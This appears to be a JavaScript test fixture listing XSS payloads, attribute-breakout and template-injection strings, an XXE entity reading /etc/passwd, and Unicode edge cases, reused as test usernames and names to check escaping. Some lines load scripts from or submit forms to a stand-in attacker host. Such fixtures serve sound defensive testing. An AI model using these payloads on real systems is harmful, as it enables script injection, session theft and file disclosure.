// What people write who want more than to be read (BEHAVIOURS D8), and what is only hard to show.

export const payloads = [
  // Elements that run code
  '<script>alert(1)</script>',
  '</title><script>alert(2)</script>',
  '</textarea><script>alert(3)</script>',
  '</p></article></main><script src=//evil.example/x.js></script>',
  '<ScRiPt>alert(4)</sCrIpT>',
  '<script/x>alert(5)</script>',
  '<scr<script>ipt>alert(6)</scr</script>ipt>',
  '<svg><script>alert(7)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(8)</script>">',
  '<object data="javascript:alert(9)">',
  '<embed src="data:text/html,<script>alert(10)</script>">',
  '<template><script>alert(11)</script></template>',
  // Handlers
  '<img src=x onerror=alert(12)>',
  '<img/src=x/onerror=alert`13`>',
  '<svg onload=alert(14)>',
  '<svg/onload=alert(15)//',
  '<body onload=alert(16)>',
  '<input autofocus onfocus=alert(17)>',
  '<details open ontoggle=alert(18)>',
  '<a onmouseover=alert(19) href=#>over</a>',
  '<video><source onerror=alert(20)>',
  '<marquee onstart=alert(21)>',
  // Out of an attribute
  '" onfocus="alert(22)" autofocus="',
  "' onfocus='alert(23)' autofocus='",
  '"><img src=x onerror=alert(24)>',
  '`onfocus=alert(25) x=`',
  '" style="position:fixed;inset:0;background:red',
  // Addresses
  'javascript:alert(26)',
  'JaVaScRiPt:alert(27)',
  'java\tscript:alert(28)',
  'data:text/html,<script>alert(29)</script>',
  'http://a.example/"onmouseover="alert(30)',
  "https://a.example/'><script>alert(31)</script>",
  'https://javascript:alert(32)@a.example/',
  'vbscript:msgbox(33)',
  '//evil.example/34',
  // Other elements
  '<a href="javascript:alert(35)">click</a>',
  '<form action="https://evil.example/"><button>send</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<math><mi xlink:href="javascript:alert(36)">x</mi></math>',
  '<!-- a comment that does not end',
  '<![CDATA[ a section that does not end',
  ']]><script>alert(37)</script>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<plaintext>',
  '</main></body></html>',
  // Written in escapes
  '&lt;script&gt;alert(38)&lt;/script&gt;',
  '&#60;script&#62;alert(39)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(40)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(41)%3C/script%3E',
  '&amp;amp; &nbsp; &copy &notanentity;',
  // Templates
  '{{text}} {{username}} {{form}}',
  '{{{text}}} {{&text}}',
  '{{#thoughts}}again{{/thoughts}} {{> layout.html}}',
  '{{=<% %>=}}<%text%>',
  '${alert(42)} #{alert(43)} <%= 44 %>',
  // Letters
  '＜script＞alert(45)＜/script＞',
  '‹script›alert(46)‹/script›',
  'ſcript ʺ onfocus=alert(47)',
  '\u202egnp.exe \u202d left to right \u202c',
  '\u2066 isolated \u2067 and not closed',
  'zero\u200bwidth\u200djoiner\ufeffmark',
  'Z\u0351\u036b\u0343a\u0325\u0332l\u0327\u0321g\u0328\u0348o\u0347 '.repeat(4),
  'a\u2028b\u2029c',
  '  two  spaces   between  ',
  'line one\nline two\n\n\nline five',
  'שלום <b>עולם</b>',
  'مرحبا "العالم" <i>',
  '👩‍👩‍👧‍👦 🇪🇺 👍🏽 ❤️ 𝕏',
  '𒐫﷽'.repeat(8),
  'W'.repeat(250),
  'i'.repeat(249) + '!',
  '.'.repeat(120) + '/'.repeat(120),
];

// What names take of it. Each costs a password hash or a registration: so those alone that markup is made of.
const unseen = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\u034f\ufe00-\ufe0f]/gu;
const cut = (change) => [
  ...new Set(
    payloads.filter((text) => /[<>"'&{\u0590-\u06ff]/.test(text))
      .map((text) => [...change(text.replaceAll(unseen, ''))].slice(0, 50).join('').trim().normalize('NFC')),
  ),
];
export const usernames = cut((text) => text.replaceAll('/', ' '));
export const clientNames = cut((text) => text);
export const tokenNames = [...new Set(payloads.map((text) => [...text.replaceAll(/[\x00-\x1f\x7f]/g, ' ')].slice(0, 100).join('')))];
